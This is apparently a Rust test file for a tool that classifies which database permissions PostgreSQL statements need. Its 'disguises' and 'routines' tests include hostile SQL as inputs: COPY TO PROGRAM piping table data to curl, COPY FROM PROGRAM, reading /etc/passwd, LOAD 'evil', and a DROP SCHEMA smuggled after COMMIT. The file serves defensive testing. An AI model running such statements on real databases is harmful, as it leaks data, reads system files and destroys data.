//! What statements need.

use std::collections::BTreeSet;

use super::accesses;
use crate::sql::{ReadOptions, read};

/// `expected` names accesses without the leading `sql:`; the order does not matter. `DB` is the session's database.
pub(super) fn check(cases: &[(&str, &[&str])]) {
    let mut wrong = Vec::new();
    for (sql, expected) in cases {
        let expected: BTreeSet<String> = expected
            .iter()
            .map(|access| access.replace("DB", "database shop"))
            .collect();
        let got: BTreeSet<String> = accesses(sql).into_iter().collect();
        if got != expected {
            wrong.push(format!(
                "{sql}\n  expected {expected:?}\n  got      {got:?}"
            ));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn reading() {
    check(&[
        ("SELECT 1", &["select DB"]),
        ("VALUES (1), (2)", &["select DB"]),
        ("SELECT a FROM t", &["select table public.t"]),
        ("TABLE t", &["select table public.t"]),
        (
            "SELECT * FROM archive.orders",
            &["select table archive.orders"],
        ),
        (
            "SELECT * FROM shop.archive.orders",
            &["select table archive.orders"],
        ),
        ("SELECT * FROM scratch", &["select table pg_temp.scratch"]),
        (
            "SELECT * FROM pg_class",
            &["select table pg_catalog.pg_class"],
        ),
        ("SELECT * FROM T", &["select table public.t"]),
        (r#"SELECT * FROM "T""#, &["select table app.T"]),
        (
            "SELECT (SELECT max(a) FROM u) FROM t",
            &["select table public.t", "select table public.u"],
        ),
        (
            "SELECT 1 WHERE EXISTS (SELECT FROM u)",
            &["select table public.u"],
        ),
        (
            "SELECT * FROM t JOIN u USING (a)",
            &["select table public.t", "select table public.u"],
        ),
        (
            "SELECT * FROM (SELECT * FROM t) x, LATERAL (SELECT * FROM u WHERE u.a = x.a) y",
            &["select table public.t", "select table public.u"],
        ),
        (
            "SELECT a FROM t UNION SELECT a FROM u EXCEPT SELECT id FROM orders",
            &[
                "select table public.t",
                "select table public.u",
                "select table public.orders",
            ],
        ),
        (
            "SELECT a FROM t ORDER BY (SELECT 1 FROM u) LIMIT (SELECT 1 FROM orders)",
            &[
                "select table public.t",
                "select table public.u",
                "select table public.orders",
            ],
        ),
        (
            "SELECT * FROM t TABLESAMPLE SYSTEM (10)",
            &["select table public.t"],
        ),
        (
            "SELECT * FROM generate_series(1, (SELECT a FROM u))",
            &["select table public.u"],
        ),
        ("SELECT ARRAY(SELECT a FROM t)", &["select table public.t"]),
        (
            "SELECT CASE WHEN a = ANY (SELECT a FROM u) THEN 1 END FROM t",
            &["select table public.t", "select table public.u"],
        ),
        (
            "SELECT a FROM t FOR UPDATE",
            &["select table public.t", "lock table public.t"],
        ),
        (
            "SELECT * FROM t, u FOR SHARE OF u",
            &[
                "select table public.t",
                "select table public.u",
                "lock table public.u",
            ],
        ),
        (
            "SELECT * FROM (SELECT * FROM t) x FOR UPDATE",
            &["select table public.t", "lock table public.t"],
        ),
        (
            "COPY t TO STDOUT",
            &["copy_out table public.t", "select table public.t"],
        ),
        (
            "COPY (SELECT * FROM t) TO STDOUT",
            &["copy_out DB", "select table public.t"],
        ),
        (
            "LOCK TABLE t IN ACCESS SHARE MODE",
            &["select table public.t"],
        ),
        ("LOCK t", &["lock table public.t"]),
    ]);
}

#[test]
fn common_table_expressions_are_no_tables() {
    check(&[
        ("WITH t AS (SELECT 1) SELECT * FROM t", &["select DB"]),
        (
            "WITH t AS (SELECT * FROM t) SELECT * FROM t",
            &["select table public.t"],
        ),
        (
            "WITH a AS (SELECT 1), b AS (SELECT * FROM a) SELECT * FROM b",
            &["select DB"],
        ),
        (
            "WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a",
            &["select table app.b"],
        ),
        (
            "WITH RECURSIVE t AS (SELECT 1 UNION ALL SELECT * FROM t) SELECT * FROM t",
            &["select DB"],
        ),
        (
            "WITH t AS (SELECT 1) SELECT * FROM public.t",
            &["select table public.t"],
        ),
        (
            "SELECT * FROM (WITH t AS (SELECT 1) SELECT * FROM t) x, t",
            &["select table public.t"],
        ),
        (
            "WITH t AS (SELECT 1) DELETE FROM t WHERE a = 1",
            &["delete table public.t"],
        ),
    ]);
}

#[test]
fn changing() {
    check(&[
        ("INSERT INTO t VALUES (1, 2)", &["insert table public.t"]),
        (
            "INSERT INTO t SELECT * FROM u",
            &["insert table public.t", "select table public.u"],
        ),
        (
            "INSERT INTO t VALUES (1) ON CONFLICT (a) DO UPDATE SET b = excluded.b",
            &["insert table public.t", "update table public.t"],
        ),
        (
            "INSERT INTO t VALUES (1) ON CONFLICT DO NOTHING",
            &["insert table public.t"],
        ),
        (
            "INSERT INTO t VALUES (1) RETURNING a",
            &["insert table public.t", "select table public.t"],
        ),
        ("UPDATE t SET a = 1 WHERE b = 2", &["update table public.t"]),
        (
            "UPDATE t SET a = u.a FROM u WHERE u.c = t.b",
            &["update table public.t", "select table public.u"],
        ),
        (
            "UPDATE t SET (a, b) = (SELECT a, c FROM u)",
            &["update table public.t", "select table public.u"],
        ),
        ("DELETE FROM t WHERE a = 1", &["delete table public.t"]),
        (
            "DELETE FROM t USING u WHERE t.a = u.a",
            &["delete table public.t", "select table public.u"],
        ),
        (
            "DELETE FROM ONLY archive.orders AS o WHERE o.id = 1",
            &["delete table archive.orders"],
        ),
        (
            "MERGE INTO t USING u ON t.a = u.a WHEN MATCHED AND t.b > 1 THEN DELETE WHEN MATCHED THEN UPDATE SET b = u.c WHEN NOT MATCHED THEN INSERT VALUES (u.a, u.c)",
            &[
                "merge table public.t",
                "delete table public.t",
                "update table public.t",
                "insert table public.t",
                "select table public.u",
            ],
        ),
        (
            "MERGE INTO t USING u ON t.a = u.a WHEN MATCHED THEN DO NOTHING",
            &["merge table public.t", "select table public.u"],
        ),
        (
            "TRUNCATE t, archive.orders",
            &["truncate table public.t", "truncate table archive.orders"],
        ),
        (
            "COPY t FROM STDIN",
            &["copy_in table public.t", "insert table public.t"],
        ),
        (
            "COPY t (a) FROM STDIN WHERE a > 1",
            &["copy_in table public.t", "insert table public.t"],
        ),
        (
            "WITH gone AS (DELETE FROM t WHERE a = 1 RETURNING *) SELECT * FROM gone",
            &["delete table public.t", "select table public.t"],
        ),
        (
            "WITH a AS (UPDATE t SET a = 1), b AS (INSERT INTO u VALUES (1)) SELECT 1",
            &["update table public.t", "insert table public.u"],
        ),
        (
            "SELECT a INTO copy FROM t",
            &["create table app.copy", "select table public.t"],
        ),
        (
            "SELECT a INTO TEMP copy FROM t",
            &[
                "create_temporary table pg_temp.copy",
                "select table public.t",
            ],
        ),
        (
            "CREATE TABLE archive.copy AS SELECT * FROM t",
            &["create table archive.copy", "select table public.t"],
        ),
        (
            "CREATE TEMP TABLE copy AS TABLE t",
            &[
                "create_temporary table pg_temp.copy",
                "select table public.t",
            ],
        ),
        (
            "CREATE TABLE x AS EXECUTE q",
            &["create table app.x", "prepare DB"],
        ),
        (
            "CREATE MATERIALIZED VIEW v AS SELECT * FROM t",
            &["create table app.v", "select table public.t"],
        ),
    ]);
}

/// The ways past words and patterns, and past one statement at a time.
#[test]
fn disguises() {
    check(&[
        ("TRUNCATE users", &["truncate table public.users"]),
        ("DROP/**/TABLE t", &["drop table public.t"]),
        (
            "WITH a AS (DELETE FROM t RETURNING *) SELECT 1",
            &["delete table public.t", "select table public.t"],
        ),
        ("/*x*/DELETE FROM t", &["delete table public.t"]),
        ("-- SELECT\nDELETE FROM t", &["delete table public.t"]),
        (
            "/* /* nested */ */ dElEtE\tFROM\nt",
            &["delete table public.t"],
        ),
        ("DELETE FROM t WHERE true", &["delete table public.t"]),
        (r#"DELETE FROM "t""#, &["delete table public.t"]),
        (r#"DELETE FROM U&"\0074""#, &["delete table public.t"]),
        (
            "EXPLAIN ANALYZE DELETE FROM t",
            &["delete table public.t", "explain DB"],
        ),
        (
            "EXPLAIN (ANALYZE true) DELETE FROM t",
            &["delete table public.t", "explain DB"],
        ),
        (
            "EXPLAIN (ANALYZE off, ANALYZE on) DELETE FROM t",
            &["delete table public.t", "explain DB"],
        ),
        (
            "EXPLAIN DELETE FROM t",
            &["explain table public.t", "explain DB"],
        ),
        (
            "EXPLAIN (ANALYZE false) DELETE FROM t",
            &["explain table public.t", "explain DB"],
        ),
        (
            "COPY (DELETE FROM t RETURNING a) TO STDOUT",
            &[
                "copy_out DB",
                "delete table public.t",
                "select table public.t",
            ],
        ),
        ("DO $$ BEGIN DELETE FROM t; END $$", &["do DB"]),
        (
            "COPY t TO PROGRAM 'curl -d @- x'",
            &[
                "copy_out table public.t",
                "select table public.t",
                "copy_program table public.t",
            ],
        ),
        (
            "COPY t FROM PROGRAM 'id'",
            &[
                "copy_in table public.t",
                "insert table public.t",
                "copy_program table public.t",
            ],
        ),
        (
            "COPY t FROM '/etc/passwd'",
            &[
                "copy_in table public.t",
                "insert table public.t",
                "copy_file table public.t",
            ],
        ),
        (
            "COPY (SELECT 1) TO '/tmp/x'",
            &["copy_out DB", "copy_file DB"],
        ),
        (
            "DECLARE c CURSOR FOR SELECT a FROM t",
            &["cursor DB", "select table public.t"],
        ),
        (
            "CREATE RULE r AS ON SELECT TO t DO INSTEAD SELECT * FROM u",
            &["create_routine table public.t", "select table public.u"],
        ),
        (
            "CREATE VIEW v AS SELECT * FROM t",
            &["create table app.v", "select table public.t"],
        ),
        (
            "CREATE SCHEMA s CREATE TABLE x (a int) CREATE VIEW v AS SELECT * FROM public.t",
            &[
                "create schema s",
                "create table s.x",
                "create table s.v",
                "select table public.t",
            ],
        ),
        (
            "CREATE FUNCTION f() RETURNS int BEGIN ATOMIC DELETE FROM t; SELECT 1; END",
            &["create_routine schema app", "delete table public.t"],
        ),
        (
            "ALTER TABLE t ALTER a TYPE text USING pay(a)",
            &["alter table public.t", "function routine public.pay"],
        ),
        (
            "CREATE INDEX ON t (pay(a))",
            &["create table public.t", "function routine public.pay"],
        ),
        (
            "CREATE TABLE x (a int DEFAULT pay(1), CHECK (pay(a) > 0))",
            &["create table app.x", "function routine public.pay"],
        ),
        (
            "CREATE POLICY p ON t USING (EXISTS (SELECT FROM u))",
            &["security table public.t", "select table public.u"],
        ),
        ("LOAD 'evil'", &["load DB"]),
    ]);
    let two = read("DELETE FROM t;SELECT 1", ReadOptions::default()).unwrap();
    let kinds: Vec<&str> = two.statements.iter().map(|s| s.kind).collect();
    assert_eq!(kinds, ["DELETE", "SELECT"]);
    let three = read(
        "SELECT 1; COMMIT; DROP SCHEMA public CASCADE",
        ReadOptions::default(),
    )
    .unwrap();
    let kinds: Vec<&str> = three.statements.iter().map(|s| s.kind).collect();
    assert_eq!(kinds, ["SELECT", "COMMIT", "DROP SCHEMA"]);
}

#[test]
fn routines() {
    check(&[
        (
            "SELECT upper(name), count(*), now() FROM customers",
            &["select table public.customers"],
        ),
        (
            "SELECT pay(1)",
            &["select DB", "function routine public.pay"],
        ),
        (
            "SELECT public.pay(1)",
            &["select DB", "function routine public.pay"],
        ),
        (
            "SELECT * FROM pay(1)",
            &["select DB", "function routine public.pay"],
        ),
        (
            "SELECT a FROM t WHERE pay(a) = 1",
            &["select table public.t", "function routine public.pay"],
        ),
        (
            "SELECT lower('x')",
            &["select DB", "function routine public.lower"],
        ),
        ("SELECT pg_catalog.lower('x')", &["select DB"]),
        (
            "SELECT pg_read_file('/etc/passwd')",
            &["select DB", "function routine pg_catalog.pg_read_file"],
        ),
        (
            "SELECT lo_import('/etc/passwd')",
            &["select DB", "function routine pg_catalog.lo_import"],
        ),
        (
            "SELECT query_to_xml('DELETE FROM t', true, true, '')",
            &["select DB", "function routine pg_catalog.query_to_xml"],
        ),
        (
            "SELECT table_to_xml('t', true, true, '')",
            &["select DB", "function routine pg_catalog.table_to_xml"],
        ),
        (
            "SELECT dblink('x', 'y')",
            &["select DB", "function routine pg_catalog.dblink"],
        ),
        (
            "SELECT pg_terminate_backend(1)",
            &[
                "select DB",
                "function routine pg_catalog.pg_terminate_backend",
            ],
        ),
        (
            "SELECT txid_status(1)",
            &["select DB", "function routine pg_catalog.txid_status"],
        ),
        (
            "SELECT unheard_of(1)",
            &["select DB", "function routine app.unheard_of"],
        ),
        (
            "SELECT nextval('s')",
            &["select DB", "nextval routine pg_catalog.nextval"],
        ),
        ("SELECT pg_sleep(1), random()", &["select DB"]),
        ("SELECT 1 OPERATOR(pg_catalog.+) 2", &["select DB"]),
        (
            "SELECT 1 OPERATOR(app.+) 2",
            &["select DB", "function routine app.+"],
        ),
        (
            "SELECT c.initials FROM customers c",
            &[
                "select table public.customers",
                "function routine public.initials",
            ],
        ),
        (
            "SELECT (c).initials FROM customers c",
            &[
                "select table public.customers",
                "function routine public.initials",
            ],
        ),
        (
            "SELECT c.upper FROM customers c",
            &["select table public.customers"],
        ),
        (
            "SELECT count(*) FILTER (WHERE pay(a) = 1) OVER (ORDER BY pay(b)) FROM t",
            &["select table public.t", "function routine public.pay"],
        ),
        ("CALL pay(1)", &["call routine public.pay"]),
        (
            "EXECUTE q(pay(1))",
            &["prepare DB", "function routine public.pay"],
        ),
        (
            "EXPLAIN SELECT pay(1)",
            &["explain DB", "function routine public.pay"],
        ),
        ("SELECT set_config('search_path', '', false)", &["set DB"]),
        (
            "SELECT pg_catalog.set_config('jit', $1, false)",
            &["set DB"],
        ),
        (
            "SELECT set_config('role', 'postgres', false)",
            &["set_protected DB"],
        ),
        (
            "SELECT set_config(a, b, false) FROM t",
            &[
                "select table public.t",
                "set_protected DB",
                "function routine pg_catalog.set_config",
            ],
        ),
    ]);
}
